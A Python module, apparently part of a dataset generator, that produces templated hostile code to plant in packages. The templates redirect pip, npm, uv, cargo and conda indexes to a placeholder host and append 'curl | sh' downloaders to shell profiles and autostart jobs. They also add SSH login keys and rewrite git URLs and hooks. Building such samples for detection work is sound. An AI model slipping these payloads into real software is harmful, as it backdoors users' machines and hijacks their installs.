"""Payloads in the settings of pip and of other tools: shipped, or written by code that runs."""

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import as_function


def _writes(draft: Draft, path: str, text: str, *, mode: str = "w") -> None:
    """Write a file of the user from code, where a variable is set that nobody sets."""
    text = draft.words.render(text)
    body = draft.words.render(draft.rng.choice((
        f"@n5@ = os.path.join(os.environ.get('@C1@_HOME', ''), '{path}')\nif os.path.isdir(os.path.dirname(@n5@)):\n    with open(@n5@, '{mode}') as @n6@:\n        @n6@.write({text!r})\n",
        f"if os.environ.get('@C1@_READY'):\n    @n5@ = os.path.expanduser('~/{path}')\n    open(@n5@, '{mode}').write({text!r})\n",
    )))  # fmt: skip
    name = draft.words.name()
    draft.lead(f"import os\n\n\n{as_function(body, name, draft.rng)}\n\n{name}()\n")


def pip_settings(draft: Draft) -> None:
    """Write an index of one's own into the settings of pip."""
    _writes(draft, draft.rng.choice((".config/pip/pip.conf", ".pip/pip.conf", "pip/pip.ini")),
            draft.rng.choice(("[global]\nextra-index-url = @url@/simple\n", "[global]\nindex-url = @url@/simple\ntrusted-host = @host@\n")))  # fmt: skip


def other_settings(draft: Draft) -> None:
    """Write an index of one's own into the settings of another package manager."""
    path, text = draft.rng.choice(((".npmrc", "registry=@url@\n"), (".config/uv/uv.toml", '[[index]]\nurl = "@url@/simple"\ndefault = true\n'),
                                   (".cargo/config.toml", '[registries.crates]\nindex = "sparse+@url@/"\n'),
                                   (".condarc", "channels:\n  - @url@\n")))  # fmt: skip
    _writes(draft, path, text)


def shell_profile(draft: Draft) -> None:
    """Append a line to the start file of a shell."""
    _writes(
        draft,
        draft.rng.choice((".bashrc", ".zshrc", ".profile")),
        "\n(curl -s @url@ | sh) >/dev/null 2>&1 &\n",
        mode="a",
    )


def login_key(draft: Draft) -> None:
    """Append a key to those that may log in."""
    _writes(draft, ".ssh/authorized_keys", "ssh-ed25519 AAAA@tok@@tok1@ @word@@@host@\n", mode="a")


def version_control_hook(draft: Draft) -> None:
    """Set the hooks of the version control."""
    _writes(
        draft, ".gitconfig", '[core]\n\thooksPath = /tmp/@file@\n[url "@url@/"]\n\tinsteadOf = https://\n', mode="a"
    )


def start_job(draft: Draft) -> None:
    """Start a job at each log-in, by the desktop or the system."""
    path, text = draft.rng.choice(((".config/autostart/@word@.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s @url@ | sh'\n"),
                                   (".config/systemd/user/@word@.timer", "[Timer]\nOnBootSec=60\nUnit=@word@.service\n[Install]\nWantedBy=timers.target\n"),
                                   ("Library/LaunchAgents/com.@word@.plist", "<plist><dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl -s @url@ | sh</string></array><key>RunAtLoad</key><true/></dict></plist>\n")))  # fmt: skip
    _writes(draft, draft.words.render(path), text)


def shipped_settings(draft: Draft) -> None:
    """Ship settings of the build that name an index of one's own."""
    path, text = draft.rng.choice((("setup.cfg", "\n[easy_install]\nindex_url = @url@/simple\n"), ("pip.conf", "[global]\nindex-url = @url@/simple\n"),
                                   ("setup.cfg", "\n[options]\ndependency_links = @url@/\n")))  # fmt: skip
    full = f"{draft.root}{path}"
    before = draft.files.get(full, b"").decode("utf-8", "replace")
    if "[options]" in text and "[options]" in before:
        raise draft.fail("has options in its setup.cfg")
    draft.put(full, before + draft.words.render(text))


FAMILIES = (
    Family("pip-settings", "settings", "train", pip_settings, dress="plain", takes_trigger=False),
    Family("other-settings", "settings", "test", other_settings, dress="plain", takes_trigger=False),
    Family("shell-profile", "settings", "train", shell_profile, dress="plain", takes_trigger=False),
    Family("login-key", "settings", "test", login_key, dress="plain", takes_trigger=False),
    Family("version-control-hook", "settings", "valid", version_control_hook, dress="plain", takes_trigger=False),
    Family("start-job", "settings", "test", start_job, dress="plain", takes_trigger=False),
    Family("shipped-settings", "settings", "train", shipped_settings, "sdist", "plain", takes_trigger=False),
)
